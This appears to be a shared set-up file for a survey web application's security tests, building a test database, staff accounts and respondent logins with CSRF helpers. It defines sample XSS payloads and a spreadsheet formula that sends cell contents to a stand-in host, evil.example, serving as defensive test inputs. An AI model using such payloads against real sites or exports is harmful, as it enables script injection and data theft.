"""Shared set-up of the security tests: one database with the hand-built fieldwork edition
(`tests.fieldwork_data`), one staff account per role, and two respondents of the mini
questionnaire whose letters carry known codes."""

import re

import pytest

from tests.fieldwork_data import add_edition
from tests.integration.test_respondent import FIXTURES, add_unit
from tests.staff_support import (PASSWORD, StaffActions, add_accounts, csrf_token, make_app,
                                 put_on_call_list)

RESPONDENT_CODE = "HJSY36UY9B"
OTHER_CODE = "VFAUAFNK42"
SCRIPT = "<script>alert('xss')</script>"
IMG = '"><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klik")'

__all__ = ["PASSWORD", "StaffActions", "csrf_token", "build_app", "respondent_login",
           "form_token", "RESPONDENT_CODE", "OTHER_CODE", "SCRIPT", "IMG", "FORMULA"]


def build_app(url, **config):
    """The app over a database with the fieldwork edition, staff accounts and two mini units
    (`m1` with RESPONDENT_CODE, `m2` with OTHER_CODE)."""
    add_edition(url)
    put_on_call_list(url, "s6", person_id=60, code="BELBAAR606")
    add_unit(url, "m1", RESPONDENT_CODE)
    add_unit(url, "m2", OTHER_CODE)
    add_accounts(url)
    settings = {"QUESTIONNAIRES_DIR": str(FIXTURES)}
    settings.update(config)
    return make_app(url, **settings)




def form_token(text: str) -> str:
    """The CSRF token of the first form on a page (either attribute order)."""
    match = (re.search(r'name="csrf_token"[^>]*value="([^"]+)"', text)
             or re.search(r'value="([^"]+)"[^>]*name="csrf_token"', text))
    assert match, "the page has no CSRF token"
    return match.group(1)


def respondent_login(client, code=RESPONDENT_CODE, **kwargs):
    page = client.get("/start", **kwargs)
    return client.post("/start", data={"csrf_token": form_token(page.text), "code": code}, **kwargs)


@pytest.fixture
def sec_app(sqlite_url):
    return build_app(sqlite_url)


def staff_client(app, role):
    actions = StaffActions(app.test_client())
    response = actions.login(role)
    assert response.status_code == 302, f"{role} could not log in"
    return actions.client
